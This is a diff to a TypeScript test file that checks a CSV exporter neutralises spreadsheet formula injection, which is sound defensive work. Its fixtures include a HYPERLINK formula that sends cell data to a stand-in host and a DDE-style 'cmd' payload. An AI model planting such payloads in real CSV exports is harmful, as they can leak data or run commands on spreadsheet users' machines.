@@ -1,6 +1,7 @@
+import { parse as parseCsvText } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { colourEnabled, createColours } from '../src/output/colour.js';
-import { renderCsv } from '../src/output/csv.js';
+import { neutraliseFormula, renderCsv } from '../src/output/csv.js';
 import { exactNumber } from '../src/output/numbers.js';
 import { renderRows, truncationNotice } from '../src/output/sql-result.js';
 import { fitWidths, renderTable } from '../src/output/table.js';
@@ -49,6 +50,105 @@ describe('renderCsv', () => {
       ),
     ).toBe('a,b\n"x,y","say ""hi"""\n"line\nbreak",plain\n');
     expect(renderCsv(['a'], [['1']], { crlf: true, header: false })).toBe('1\r\n');
+  });
+});
+
+describe('CSV cells a spreadsheet would run as formulas', () => {
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+  const TAILS = [
+    'HYPERLINK("http://x.test?"&A1,"click")',
+    "cmd|' /C calc'!A0",
+    'SUM(1,2)',
+    '1+1',
+    'A1',
+    '',
+    ' ',
+    "'",
+    '12.50',
+    '1e3x',
+  ];
+  const NUMBERS = [
+    '-12.50',
+    '-1e3',
+    '+3',
+    '-0.5',
+    '-.5',
+    '+1E-7',
+    '0',
+    '12',
+    '1.',
+    '-100000000000000000000.01',
+  ];
+  const TEXT = ['groceries', "'=already quoted", ' =leading space', 'a=b', 'café', '', '1-2', 'x@y.test'];
+
+  /** A deterministic pseudo-random generator (mulberry32), so every run checks the same generated cells. */
+  function generator(seed: number): () => number {
+    let a = seed;
+    return () => {
+      a = (a + 0x6d2b79f5) | 0;
+      let t = Math.imul(a ^ (a >>> 15), 1 | a);
+      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+    };
+  }
+  const random = generator(35);
+  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
+  const ALPHABET = [
+    ...TRIGGERS,
+    'a',
+    'Z',
+    '0',
+    '9',
+    '.',
+    'e',
+    ',',
+    '"',
+    '\n',
+    ' ',
+    '(',
+    ')',
+    '|',
+    '!',
+    "'",
+    'é',
+  ];
+  const generated = Array.from({ length: 2_000 }, () =>
+    Array.from({ length: Math.floor(random() * 8) }, () => pick(ALPHABET)).join(''),
+  );
+  const triggered = TRIGGERS.flatMap((t) => TAILS.map((tail) => `${t}${tail}`));
+  const cells = [...triggered, ...NUMBERS, ...TEXT, ...generated];
+  const isNumber = (cell: string) => /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);
+  const formulaLike = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t)) && !isNumber(cell);
+
+  it('prefixes exactly one quote to a cell that starts with =, +, -, @, tab or CR and is not a number', () => {
+    expect(triggered.filter(formulaLike)).toHaveLength(TRIGGERS.length * TAILS.length - 2); // all but +12.50 and -12.50
+    for (const cell of cells) {
+      const out = neutraliseFormula(cell);
+      expect(out, JSON.stringify(cell)).toBe(formulaLike(cell) ? `'${cell}` : cell);
+      // Once is enough: the quoted cell no longer starts a formula.
+      expect(neutraliseFormula(out)).toBe(out);
+    }
+    for (const n of NUMBERS) expect(neutraliseFormula(n)).toBe(n);
+  });
+
+  it('writes the quoted cells through RFC 4180, and --raw writes every cell back unchanged', () => {
+    const rows = Array.from({ length: Math.ceil(cells.length / 5) }, (_, i) => cells.slice(i * 5, i * 5 + 5));
+    while (rows.at(-1)!.length < 5) rows.at(-1)!.push('');
+    const header = ['=head', 'b', '-c', '@d', 'e'];
+    const parse = (csv: string) => parseCsvText(csv, { relax_column_count: false }) as string[][];
+    const safe = parse(renderCsv(header, rows));
+    expect(safe).toEqual([header, ...rows].map((r) => r.map((c) => (formulaLike(c) ? `'${c}` : c))));
+    const raw = parse(renderCsv(header, rows, { raw: true }));
+    expect(raw).toEqual([header, ...rows]);
+  });
+
+  it('keeps amounts as numbers in a report-like row', () => {
+    expect(renderCsv(['category', 'spent'], [['=HYPERLINK("http://x.test","x")', '-12.50']])).toBe(
+      'category,spent\n"\'=HYPERLINK(""http://x.test"",""x"")",-12.50\n',
+    );
+    expect(renderCsv(['note'], [["+cmd|' /C calc'!A0"], ['@SUM(1,2)'], ['-1e3']], { header: false })).toBe(
+      `'+cmd|' /C calc'!A0\n"'@SUM(1,2)"\n-1e3\n`,
+    );
   });
 });
 
